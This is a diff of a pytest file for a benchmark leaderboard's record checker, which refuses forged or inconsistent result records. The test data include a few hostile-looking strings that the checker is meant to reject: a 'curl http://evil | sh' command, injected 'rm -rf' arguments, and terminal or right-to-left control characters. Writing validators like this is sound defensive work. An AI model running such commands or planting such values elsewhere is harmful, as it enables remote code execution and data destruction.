@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 import torch
 import yaml
@@ -9,160 +11,172 @@ from built_records import TO_ITS_END
 from formalbench.contracts.errors import RequestError
 from formalbench.contracts.identity import ids_of
 from formalbench.contracts.metric import Metric
-from formalbench.contracts.specs import MetricSpec
+from formalbench.contracts.record import CohortMember, parse_record
+from formalbench.contracts.specs import MetricSpec, ProtocolSpec
 from formalbench.evaluation import cells as evaluation_cells
-from formalbench.host import Plugin
-from formalbench_leaderboard.publishing.record_check import Admission
+from formalbench.host import Plugin, PluginHost
+from formalbench.metrics.close_brackets import MACRO, MICRO
+from formalbench.running.plan import RunRequest, make_plan
+from formalbench.running.session import execute
+from formalbench.statistics.aggregate import facts_of
+from formalbench.statistics.build import View, build_page
+from formalbench.statistics.records import title_of
+from formalbench.store import Store
+from formalbench_leaderboard.publishing.record_check import Admission, copied
+from formalbench_leaderboard.renderers import renderer
 
-FORGED = {
-    "test_id": {"test_id": "0" * 16},
-    "task parity:classify is at version 1": {"task_version": 2},
+FORMALBENCH = Plugin("formalbench", "formalbench", "0.1.0")
+BY_HAND = {"model": "by-hand", "kind": "exact", "rate": None}
+OTHER_FILE = {"distribution": "rgpt.py", "sha256": "a" * 64}
+ENTROPY = "test.cells.metrics.cross-entropy"
+SUMS = "test.cells.metrics"
+
+
+def forged(record, paths):
+    """Return a record with other values at some paths, which have a dot before each part."""
+    data = json.loads(record.to_json())
+    for path, value in paths.items():
+        *parts, last = path.split(".")
+        place = data
+        for part in parts:
+            place = place[part]
+        if value is ...:
+            del place[last]
+        else:
+            place[last] = value
+    return parse_record(json.dumps(data), "forged")
+
+
+def mutual(*total):
+    return {f"{SUMS}.mutual-information": {"total": total, "count": [100] * 4}}
+
+
+PLANNED = {
+    "its task.version is 2, not 1": {"task_version": 2},
     "task mystery:classify is not known": {"task": "mystery:classify", "fingerprint": "0" * 64},
-    "not in the full form": {"task": "parity", "fingerprint": "0" * 64},
-    "task parity:classify came from other": {"task_file": "other"},
+    "its task.name is parity, not parity:classify": {"task": "parity", "fingerprint": "0" * 64},
+    "its task.source is other, with other contents than formalbench": {"task_file": "other"},
     "unknown option of parity 'luck'": {"task_options": {"luck": 7}},
-    "options that `--set` would not give": {"task_options": {"p": 0.0}},
+    "its task.options.p is 0.0, not absent": {"task_options": {"p": 0.0}},
     "model stranger is not known here": {"model": "stranger"},
-    "name its --plugin mine.py": {
-        "model": "mine",
-        "distribution": "mine.py",
-        "sha256": "a" * 64,
-    },
-    "model regulargpt is at version 1": {"model_version": 2},
-    "model regulargpt came from rgpt.py": {"distribution": "rgpt.py", "sha256": "a" * 64},
+    "name its --plugin rgpt.py": {"model": "mine", **OTHER_FILE},
+    "its model.version is 2, not 1": {"model_version": 2},
+    "its model.source is rgpt.py, with other contents than formalbench here": OTHER_FILE,
     "regulargpt: chunk=1: must be at least 2": {"options": {"chunk": 1}},
     "regulargpt: chunk=true: must be a whole": {"options": {"chunk": True}},
-    "is learned, not exact": {"kind": "exact", "rate": None},
-    "seed 0 only": {"model": "by-hand", "kind": "exact", "rate": None, "seed": 1},
-    "learning rate 0.5 is not in quick": {"rate": 0.5},
-    "other strings": {"fingerprint": "0" * 64},
-    "other lengths": {"accuracy": [100]},
-    "more or fewer strings": {"strings": 1, "accuracy": [1] * 4},
-    "its chance_constant is 0, not 0.5": {"chance": 0.0},
-    "its chance_constant is 0.49999, not 0.5": {"chance": 0.49999},
-    "its metric is luck, not accuracy": {"metric": "luck"},
+    "its model.kind is exact, not learned": {"kind": "exact", "rate": None},
+    "its seed is 1, not 0": {**BY_HAND, "seed": 1},
+    "its learning_rate is 0.5, not 0.001": {"rate": 0.5},
+    "its test_id is 0000000000000000, not ": {"test_id": "0" * 16},
+    "its test.fingerprint is 0": {"fingerprint": "0" * 64},
+    "its test.cells.length is (41,), not (41, 51, ": {"accuracy": [100]},
+    "its test.cells.strings[0] is 1, not 100": {"strings": 1, "accuracy": [1] * 4},
+    "its test.chance_constant is 0, not 0.5": {"chance": 0.0},
+    "its test.chance_constant is 0.49999, not 0.5": {"chance": 0.49999},
+    "its test.metric is luck, not accuracy": {"metric": "luck"},
+    "its test.fingerprint": {
+        **{"accuracy": [1], "strings": 1, "chance": 0.0, "fingerprint": "0" * 64}
+    },
+    "the recorded command does not match": {"command": "curl http://evil | sh"},
+    "the recorded command": {"command": "'"},
+    "its validation has nothing wrong": {"bits": 1.01},
 }
+"""Arguments of a record, by the reason to refuse it."""
+
+MEASURED = {
+    "its train_id is 0000000000000000, not ": {"train_id": "0" * 16},
+    "its test.cells.metrics.cross-entropy is absent": {ENTROPY: ...},
+    "its test.cells.metrics.luck is ": {f"{SUMS}.luck": {"total": [1] * 4, "count": [100] * 4}},
+    "its test.cells.metrics.cross-entropy.count[3] is 99, not 100": {
+        f"{ENTROPY}.count": [100, 100, 100, 99]
+    },
+    "its test cannot have -0.001 as the sum of cross-entropy": {f"{ENTROPY}.total": [1, 1, 1, -1]},
+    "its test.cells.window is 2, not 1": {
+        ENTROPY: {"total": [0, 0], "count": [200, 200]},
+        "test.cells.window": 2,
+    },
+    "its test.cells.answers[0] is 200, not 100": {"test.cells.answers": [200] * 4},
+    "cannot have -0.1 as the sum of mutual-information": mutual(0.0, 0.0, 0.0, -0.1),
+    "cannot have 100.1 as the sum of mutual-information": mutual(0.0, 0.0, 0.0, 100.1),
+    "its test has nothing wrong": {f"{ENTROPY}.total": [0, 0, 0, 100_200]},
+    "more strings wrong than its cross-entropy can pay for": {
+        "test.cells.correct": [100, 100, 100, 90],
+        f"{ENTROPY}.total": [0, 0, 0, 9_900],
+    },
+    "its selected.strings is 9": {"selected.strings": 9, "selected.correct": 9},
+    "its selected.metrics.cross-entropy is 9": {"selected.metrics.cross-entropy.count": 9},
+    "its validation cannot have -1": {"selected.metrics.cross-entropy.total": -1.0},
+    "characters that are not allowed": {"environment.hardware": "\u202ea chip"},
+    "has characters that are not": {"message": "\x1b[2J"},
+}
+"""Values in an honest record, by the reason to refuse it."""
 
 
-@pytest.mark.parametrize("reason", FORGED)
-def test_a_forged_record_is_refused_with_one_line(host, make_record, reason):
-    record = make_record(**FORGED[reason])
+def refused(admission, record, reason):
     with pytest.raises(RequestError) as caught:
-        Admission(host).check(record)
+        admission.check(record)
     assert reason in str(caught.value)
     assert "\n" not in str(caught.value)
 
 
-@pytest.mark.parametrize("reason", FORGED)
-def test_a_forged_record_is_refused_behind_honest_ones_too(host, make_record, reason):
-    """What is at hand is looked up once for thousands of records."""
+@pytest.mark.parametrize("reason", [*PLANNED, *MEASURED])
+def test_a_forged_record_is_refused_with_one_line(host, make_record, reason):
+    """What is at hand is looked up once for thousands of records: also behind honest ones."""
+    keys = PLANNED.get(reason)
+    record = forged(make_record(), MEASURED[reason]) if keys is None else make_record(**keys)
+    refused(Admission(host), record, reason)
     admission = Admission(host)
-    honest = [make_record(), make_record("by-hand", kind="exact", rate=None)]
-    for record in [*honest, *honest]:
-        admission.check(record)
-    with pytest.raises(RequestError) as caught:
-        admission.check(make_record(**FORGED[reason]))
-    assert reason in str(caught.value)
+    for honest in [make_record(), make_record(**BY_HAND)] * 2:
+        admission.check(honest)
+    refused(admission, record, reason)
+
+
+@pytest.mark.parametrize(
+    ("keys", "paths"),
+    [
+        ({}, {}),
+        ({"status": "diverged"}, {}),
+        ({"options": {"chunk": 3}}, {}),
+        ({"seed": 7}, {}),
+        (BY_HAND, {}),
+        ({"chance": 0.5 + 1e-7}, {}),
+        ({"bits": 1.0}, {}),
+        # Of two classes the right one has at least one half; with a wrong string any cost may be.
+        ({}, {f"{ENTROPY}.total": [0, 0, 0, 100_000]}),
+        ({"accuracy": [100, 100, 100, 99]}, {f"{ENTROPY}.total": [0, 0, 0, 10**9]}),
+        ({}, mutual(*[99.5] * 4)),
+        ({"not_finite": [2, 3]}, {}),
+    ],
+    ids=str,
+)
+def test_an_honest_record_is_taken(host, make_record, keys, paths):
+    Admission(host).check(forged(make_record(**keys), paths))
 
 
 def test_a_forged_protocol_is_refused(host, make_record, protocol):
-    for change, reason in {
-        "name": "unknown protocol 'mine'",
-        "batch": "differs from the registered quick",
-    }.items():
-        value = {"name": "mine", "batch": 64}[change]
-        admission = Admission(host)
-        for _ in range(2):
-            with pytest.raises(RequestError, match=reason):
-                admission.check(make_record(protocol=protocol | {change: value}))
-            admission.check(make_record())
-
-
-def without(record, name):
-    metrics = {key: sums for key, sums in record.test.cells.metrics.items() if key != name}
-    return with_cells(record, metrics=metrics)
-
-
-def with_metric(record, name, **change):
-    sums = record.test.cells.metrics.get(name) or record.test.cells.metrics["cross-entropy"]
-    changed = record.test.cells.metrics | {name: sums.model_copy(update=change)}
-    return with_cells(record, metrics=changed)
-
-
-def with_cells(record, **change):
-    cells = record.test.cells.model_copy(update=change)
-    return record.model_copy(update={"test": record.test.model_copy(update={"cells": cells})})
-
-
-MEASURED = {
-    "it lacks the metric cross-entropy": lambda record: without(record, "cross-entropy"),
-    "luck is no metric of its task": lambda record: with_metric(record, "luck"),
-    "its cross-entropy counts more or fewer answers": lambda record: with_metric(
-        record, "cross-entropy", count=(100, 100, 100, 99)
-    ),
-    "its cross-entropy is negative": lambda record: with_metric(
-        record, "cross-entropy", total=(1.0, 1.0, 1.0, -1.0)
-    ),
-    "summed up over other cells": lambda record: with_cells(
-        with_metric(record, "cross-entropy", total=(0, 0), count=(200, 200)), window=2
-    ),
-    "asked for more or fewer answers": lambda record: with_cells(record, answers=(200,) * 4),
-    "its mutual-information is negative": lambda record: with_metric(
-        record, "mutual-information", total=(0.0, 0.0, 0.0, -0.1)
-    ),
-    "its mutual-information is more than answers can tell": lambda record: with_metric(
-        record, "mutual-information", total=(0.0, 0.0, 0.0, 100.1)
-    ),
-    "has nothing wrong, and its cross-entropy is that of errors": lambda record: with_metric(
-        record, "cross-entropy", total=(0, 0, 0, 100_200)
-    ),
-}
-
-
-@pytest.mark.parametrize("reason", MEASURED)
-def test_metrics_that_the_test_strings_cannot_give_are_refused(host, make_record, reason):
-    with pytest.raises(RequestError, match=reason):
-        Admission(host).check(MEASURED[reason](make_record()))
-
-
-def test_a_right_answer_may_cost_what_knowing_nothing_does(host, make_record):
-    """Of two classes the right one has at least one half; with a wrong string any cost may be."""
-    check = Admission(host).check
-    check(with_metric(make_record(), "cross-entropy", total=(0, 0, 0, 100_000)))
-    check(with_metric(make_record(accuracy=[100, 100, 100, 99]), "cross-entropy",
-                      total=(0, 0, 0, 10**9)))  # fmt: skip
-    with pytest.raises(RequestError, match="more strings wrong than its cross-entropy"):
-        check(with_metric(make_record(accuracy=[100, 100, 100, 90]), "cross-entropy",
-                          total=(0, 0, 0, 9_900)))  # fmt: skip
-    with pytest.raises(RequestError, match="its validation has nothing wrong"):
-        check(make_record(bits=1.01))
-    check(make_record(bits=1.0))
-
-
-def test_records_from_before_mutual_information_was_measured_are_taken(host, make_record):
-    check = Admission(host).check
-    check(make_record())
-    check(with_metric(make_record(), "mutual-information", total=(99.5,) * 4))
+    admission, changed = Admission(host), {"changed": {"batch": 64}, "batch": 64}
+    admission.check(make_record(protocol=protocol | changed))
+    for _ in range(2):
+        for change, reason in (
+            ({"name": "mine"}, "unknown protocol 'mine'"),
+            ({"batch": 64}, "its protocol.batch is 64, not "),
+            (changed | {"steps": 600}, "its protocol.steps is 600, not "),
+        ):
+            refused(admission, make_record(protocol=protocol | change), reason)
+        admission.check(make_record())
 
 
 def test_a_test_that_is_not_finite_somewhere_counts_as_chance_there(host, make_record):
-    check = Admission(host).check
+    admission = Admission(host)
     record = make_record(not_finite=[2, 3])
-    check(record)
-    cells = record.test.cells
-    with pytest.raises(RequestError, match="it does not count as chance"):
-        check(with_cells(record, correct=(*cells.correct[:3], 51)))
-    with pytest.raises(RequestError, match="counts more or fewer answers"):
-        check(with_metric(record, "cross-entropy", count=(100, 100, 0, 100)))
+    correct, count = (*record.test.cells.correct[:3], 51), [100, 100, 0, 100]
+    for paths, reason in (
+        ({"test.cells.correct": correct}, "its test.cells.correct.3 is 51, not 50"),
+        ({f"{ENTROPY}.count": count}, "cross-entropy.count[3] is 100, not 0"),
+    ):
+        refused(admission, forged(record, paths), reason)
     wrong = make_record(not_finite=[3], accuracy=[90, 100, 100, 100])
-    with pytest.raises(RequestError, match="more strings wrong"):
-        check(with_metric(wrong, "cross-entropy", total=(0, 0, 0, 0)))
-
-
-def test_a_forged_identity_of_the_training_is_refused(host, make_record):
-    forged = make_record().model_copy(update={"train_id": "0" * 16})
-    with pytest.raises(RequestError, match="its train_id or test_id is not that"):
-        Admission(host).check(forged)
+    refused(admission, forged(wrong, {f"{ENTROPY}.total": [0] * 4}), "more strings wrong")
 
 
 class Certainty(Metric):
@@ -174,148 +188,207 @@ class Certainty(Metric):
         return torch.tensor([0.5 * len(example.inputs), len(example.inputs)])
 
 
-def measured_besides(record, version=1):
-    """Return a record with a metric beside those of its objective."""
-    record = with_metric(record, "certainty", total=(40.0,) * 4)
-    test = record.test.model_copy(update={"extra_metrics": {"certainty": version}})
-    record = record.model_copy(update={"test": test})
-    return record.model_copy(update={"test_id": ids_of(record)[1]})
+def test_a_metric_of_a_plugin_is_compared_with_that_plugin(host, make_record):
+    sums = {f"{SUMS}.certainty": {"total": [40.0] * 4, "count": [100] * 4}}
 
+    def measured_besides(version):
+        told = forged(make_record(), sums | {"test.extra_metrics": {"certainty": version}})
+        return told.model_copy(update={"test_id": ids_of(told)[1]})
 
-def test_a_metric_of_a_plugin_is_held_to_that_plugin(host, make_record):
-    with pytest.raises(RequestError, match="metric certainty is not known here"):
-        Admission(host).check(measured_besides(make_record()))
-    plugin = Plugin("formalbench", "formalbench", "0.1.0")
+    refused(Admission(host), measured_besides(1), "its test.extra_metrics.certainty is 1, not abs")
     spec = MetricSpec("certainty", 1, "how sure it is", Certainty, ("classify",))
-    host.metrics.add(spec, plugin)
+    host.metrics.add(spec, FORMALBENCH)
     Admission(host).check(make_record())
-    Admission(host).check(measured_besides(make_record()))
-    with pytest.raises(RequestError, match="at version 1, the record used version 2"):
-        Admission(host).check(measured_besides(make_record(), 2))
-    with pytest.raises(RequestError, match="certainty is no metric of its task"):
-        Admission(host).check(with_metric(make_record(), "certainty"))
-
-
-def test_a_changed_protocol_is_held_to_the_same_changes(host, make_record, protocol):
-    changed = {"changed": {"batch": 64}, "batch": 64}
-    Admission(host).check(make_record(protocol=protocol | changed))
-    with pytest.raises(RequestError, match=r"differs from the registered quick\[batch=64\]"):
-        Admission(host).check(make_record(protocol=protocol | changed | {"steps": 600}))
-
-
-def test_a_record_of_one_string_and_no_chance_is_refused(host, make_record):
-    keys = {"accuracy": [1], "strings": 1, "chance": 0.0, "fingerprint": "0" * 64}
-    forged = make_record(**keys, test_id="0" * 16)
-    with pytest.raises(RequestError):
-        Admission(host).check(forged)
-    forged = make_record(**keys)
-    with pytest.raises(RequestError):
-        Admission(host).check(forged)
-
-
-@pytest.mark.parametrize(
-    "keys",
-    [
-        {},
-        {"status": "diverged"},
-        {"options": {"chunk": 3}},
-        {"seed": 7},
-        {"model": "by-hand", "kind": "exact", "rate": None},
-        {"chance": 0.5 + 1e-7},
-    ],
-    ids=str,
-)
-def test_an_honest_record_is_taken(host, make_record, keys):
-    Admission(host).check(make_record(**keys))
+    Admission(host).check(measured_besides(1))
+    refused(Admission(host), measured_besides(2), "its test.extra_metrics.certainty is 2, not 1")
+    refused(Admission(host), forged(make_record(), sums), "its test.cells.metrics.certainty is ")
 
 
 def test_a_local_model_is_taken_if_it_is_at_hand_with_the_same_contents(
     host, make_record, add_local_model
 ):
     add_local_model("mine", "a" * 64)
-    source = {"distribution": "mine.py"}
-    Admission(host).check(make_record("mine", sha256="a" * 64, **source))
-    with pytest.raises(RequestError, match=r"mine\.py has changed since"):
-        Admission(host).check(make_record("mine", sha256="b" * 64, **source))
+    Admission(host).check(make_record("mine", sha256="a" * 64, distribution="mine.py"))
+    other = make_record("mine", sha256="b" * 64, distribution="mine.py")
+    refused(Admission(host), other, "its model.source is mine.py, with other contents than mine.py")
+
+
+@pytest.mark.parametrize(
+    ("more", "taken"),
+    [
+        ("--plugin mine.py", True),
+        ("--plugin ../bad/mine.py", True),
+        ("--plugin 'a; rm -rf'", False),
+        ("--plugin -x", False),
+        ("--plugin", False),
+        ("; rm -rf x", False),
+    ],
+)
+def test_a_command_may_name_plugins_and_nothing_else(host, make_record, more, taken):
+    record = make_record(seed=1)
+    told = record.model_copy(update={"command": f"{record.command} {more}"})
+    if taken:
+        Admission(host).check(told)
+    else:
+        refused(Admission(host), told, "command")
+    itself = record.command.replace("--seeds 2", "--seeds 1,")
+    Admission(host).check(record.model_copy(update={"command": itself}))
+
+
+def test_the_weights_of_seed_0_are_not_left_out(host, make_record, monkeypatch):
+    Admission(host).check(make_record())  # too large to be kept
+    made = host.models.get("regulargpt")[0].spec.factory.__init__.__globals__
+    monkeypatch.setitem(made, "LARGE", 10)
+    refused(Admission(host), make_record(parameters=10), "it names no weights")
+    Admission(host).check(make_record(seed=1, parameters=10))
+    Admission(host).check(make_record(status="error", parameters=0))
+    monkeypatch.setitem(made, "LARGE", 1 << 26)
+    refused(Admission(host), make_record(parameters=1 << 26), "larger than weights can be")
 
 
 def test_a_test_set_is_drawn_once(host, make_runs, monkeypatch):
-    drawn = []
-    real = evaluation_cells.test_set
-    monkeypatch.setattr(
-        evaluation_cells,
-        "test_set",
-        lambda task, protocol: drawn.append(task) or real(task, protocol),
-    )
+    drawn, real = [], evaluation_cells.test_set
+    count = lambda task, protocol: drawn.append(task) or real(task, protocol)  # noqa: E731
+    monkeypatch.setattr(evaluation_cells, "test_set", count)
     admission = Admission(host)
     for record in make_runs() + make_runs("rnn"):
         admission.check(record)
     assert len(drawn) == 1
 
 
+def missing(host, records, held=()):
+    """Return the lines of what is missing, up to that word."""
+    lines = Admission(host).incomplete(records, held)
+    assert all(" missing" in line for line in lines)
+    return [line.removeprefix("regulargpt on parity: ").partition(" missing")[0] for line in lines]
+
+
 def test_every_seed_and_rate_belongs_to_it(host, make_runs, make_record):
-    admission, runs = Admission(host), make_runs()
-    assert admission.incomplete(runs, []) == []
-    assert admission.incomplete(runs[4:], runs[:4]) == []
-    assert admission.incomplete([], runs[:1]) == []
-    (line,) = admission.incomplete(runs[:5], [])
-    assert line.startswith("regulargpt on parity: seed 2 at learning rate 0.0003 missing")
-    (line,) = admission.incomplete(runs[:3], [])
-    assert "seeds 0, 1, 2 at learning rate 0.0003 missing" in line
-    assert len(admission.incomplete([make_record(seed=2**53)], [])) == 2
+    runs, more = make_runs(), make_runs(seeds=5)
+    low, high = " at learning rate 0.0003", " at learning rate 0.001"
+    for records, held, lines in (
+        (runs, [], []),
+        (runs[4:], runs[:4], []),
+        ([], runs[:1], []),
+        (runs[:5], [], [f"seed 2{low}"]),
+        (runs[:3], [], [f"seeds 0, 1, 2{low}"]),
+        ([one for one in more if one.seed != 3], [], [f"seed 3{low}", f"seed 3{high}"]),
+        (more[:3] + more[5:], [], [f"seeds 3, 4{high}"]),
+        # Seeds of other options or contents do not complete a row.
+        (runs[:5], make_runs(options={"chunk": 3}), [f"seed 2{low}"]),
+        (runs[:5], make_runs(sha256="a" * 64), [f"seed 2{low}"]),
+        (runs[:5], make_runs(model_version=2), [f"seed 2{low}"]),
+        ([make_record(**BY_HAND)], [], []),
+    ):
+        assert missing(host, records, held) == lines
+    assert len(missing(host, [make_record(seed=2**53)])) == 2
 
 
 def test_with_fallback_a_rate_is_asked_for_where_a_seed_before_it_did_not_learn(
     host, make_record, protocol
 ):
-    decay = {"validated": 0.99}
-    used = {**protocol, "fallback": True, "decay": decay}
+    used = {**protocol, "fallback": True, "decay": {"validated": 0.99}}
     (entry,) = host.protocols._entries["quick"]
     entry.spec.path.write_text(yaml.safe_dump(used))
+    keys = {"protocol": used, "training": TO_ITS_END}
+    low = "at learning rate 0.0003"
+    for validations, at_next, lines in (
+        ((1.0, 0.99, 1.0), 0, []),
+        ((1.0, 0.98, 1.0), 0, [f"seeds 0, 1, 2 {low}"]),
+        ((1.0, 0.98, 1.0), 3, []),
+        ((1.0, 1.0, 1.0), 2, [f"seed 2 {low}"]),
+        ((1.0, 1.0), 0, ["seed 2 at learning rate 0.001"]),
+    ):
+        runs = [make_record(seed=s, validation=one, **keys) for s, one in enumerate(validations)]
+        runs += [make_record(seed=seed, rate=0.0003, **keys) for seed in range(at_next)]
+        assert missing(host, runs) == lines
 
-    def missing(*validations, at_next=0):
-        runs = [
-            make_record(protocol=used, seed=seed, validation=share, training=TO_ITS_END)
-            for seed, share in enumerate(validations)
+
+def test_all_runs_of_a_cohort_are_published(host, make_runs):
+    runs = make_runs(training=TO_ITS_END)
+    cohort = tuple(CohortMember(learning_rate=0.001, seed=seed) for seed in (0, 3))
+    trained = runs[0].training.model_copy(update={"cohort": cohort})
+    told = [runs[0].model_copy(update={"training": trained}), *runs[1:]]
+    (line,) = Admission(host).incomplete(told, [])
+    assert "seed 3 at learning rate 0.001 missing, which others trained together with" in line
+
+
+def test_the_numbers_or_the_weights_of_another_seed_are_found(make_record):
+    def pair(own, other, **keys):
+        return [
+            forged(make_record(seed=seed), {f"{ENTROPY}.total": sums}).model_copy(update=keys)
+            for seed, sums in enumerate((own, other))
         ]
-        runs += [
-            make_record(protocol=used, seed=seed, rate=0.0003, training=TO_ITS_END)
-            for seed in range(at_next)
-        ]
-        return [line.partition(" missing")[0] for line in Admission(host).incomplete(runs, [])]
 
-    place = "regulargpt on parity: "
-    assert missing(1.0, 0.99, 1.0) == []
-    assert missing(1.0, 0.98, 1.0) == [f"{place}seeds 0, 1, 2 at learning rate 0.0003"]
-    assert missing(1.0, 0.98, 1.0, at_next=3) == []
-    assert missing(1.0, 1.0, 1.0, at_next=2) == [f"{place}seed 2 at learning rate 0.0003"]
-    assert missing(1.0, 1.0) == [f"{place}seed 2 at learning rate 0.001"]
-
-
-def test_a_seed_between_others_is_missed(host, make_runs):
-    runs = [record for record in make_runs(seeds=5) if record.seed != 3]
-    lines = Admission(host).incomplete(runs, [])
-    assert len(lines) == 2
-    assert all("seed 3 at" in line for line in lines)
+    (line,) = copied(pair((11, 12, 13, 0), (11, 12, 13, 0)))
+    assert line == (
+        "regulargpt on parity, quick, seed 1 at learning rate 0.001: its numbers are those of "
+        "regulargpt on parity, quick, seed 0 at learning rate 0.001: one is a copy"
+    )
+    assert copied(pair((11, 12, 13, 0), (11, 12, 14, 0))) == []
+    assert copied(pair((11, 12, 13, 0), (11, 12, 13, 0))[:1] * 2) == []
+    for sums in ((0, 0, 0, 0), (5, 5, 5, 5)):  # all right, or the same of every string
+        assert copied(pair(sums, sums)) == []
+        assert len(copied(pair(sums, sums, weights="a" * 64))) == 1
 
 
-def test_seeds_of_one_rate_are_asked_for_at_every_rate(host, make_runs):
-    runs = [one for one in make_runs(seeds=5) if one.seed < 3 or one.learning_rate == 0.0003]
-    (line,) = Admission(host).incomplete(runs, [])
-    assert "seeds 3, 4 at learning rate 0.001 missing" in line
+WINDOW = """
+    name: window
+    version: 1
+    seeds: 1
+    steps: 10
+    batch_tokens: 100
+    evaluate_every: 10
+    curriculum: {kind: generated}
+    decay: {steps: 10}
+    validation: {every: 10, tokens: 200}
+    test: {tokens: 900}
+"""
 
 
-def test_seeds_of_other_options_or_contents_do_not_complete_a_row(host, make_runs):
-    runs = make_runs()
-    others = [
-        make_runs(options={"chunk": 3}),
-        make_runs(sha256="a" * 64),
-        make_runs(model_version=2),
-    ]
-    for other in others:
-        assert len(Admission(host).incomplete(runs[:5], other)) == 1
+@pytest.fixture(scope="module")
+def made(tmp_path_factory):
+    """A host that knows a protocol of windows, and a record of it."""
+    folder = tmp_path_factory.mktemp("window")
+    (folder / "window.yaml").write_text(WINDOW)
+    host = PluginHost.load()
+    host.protocols.add(ProtocolSpec("window", "a window", folder / "window.yaml"), FORMALBENCH)
+    request = RunRequest(models=("lstm",), tasks=("dyck-2-3:generate",), protocol="window")
+    threads = torch.get_num_threads()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("FORMALBENCH_CACHE", str(folder / "cache"))
+        store = Store(folder / "results")
+        (record,) = execute(host, make_plan(host, request), store, "cpu", jobs=1)
+    torch.set_num_threads(threads)
+    return host, record
 
 
-def test_an_exact_model_has_one_run(host, make_record):
-    record = make_record("by-hand", kind="exact", rate=None)
-    assert Admission(host).incomplete([record], []) == []
+@pytest.mark.parametrize(
+    ("path", "value", "reason"),
+    [
+        (f"{SUMS}.{MICRO}.count", [999_999], f"its {SUMS}.{MICRO}.count[0] is 999999"),
+        (f"{SUMS}.{MACRO}.count", [1], f"its {SUMS}.{MACRO}.count[0] is 1, not "),
+        (f"{SUMS}.{MICRO}.total", [999_999], f"cannot have 999999 as the sum of {MICRO}"),
+        (f"{SUMS}.{MICRO}.total", [0], None),  # its author's word
+        ("test.cells.first", [80], "its test.cells.first[0] is 80, not 84"),
+        ("test.cells.length", [168], "its test.cells.length[0] is 168, not 167"),
+        ("test.cells.strings", [10_000], "its test.cells.strings[0] is 10000"),
+        ("test.chance_length", 0.25, "its test.chance_length is 0.25"),
+        ("test.fingerprint", "0" * 64, "its test.fingerprint"),
+        ("status", "finished", None),
+    ],
+)
+def test_a_forged_window_is_refused(made, path, value, reason):
+    host, record = made
+    if reason is None:
+        Admission(host).check(forged(record, {path: value}))
+    else:
+        refused(Admission(host), forged(record, {path: value}), reason)
+
+
+def test_a_board_tells_of_the_window(made):
+    _, record = made
+    facts = facts_of([record])
+    assert (facts.first, facts.last, facts.cells) == (84, 167, 1)
+    page = build_page([record], View("it", (title_of(record),)))
+    assert "; test strings of any length within 84–167, " in renderer("markdown")(page)
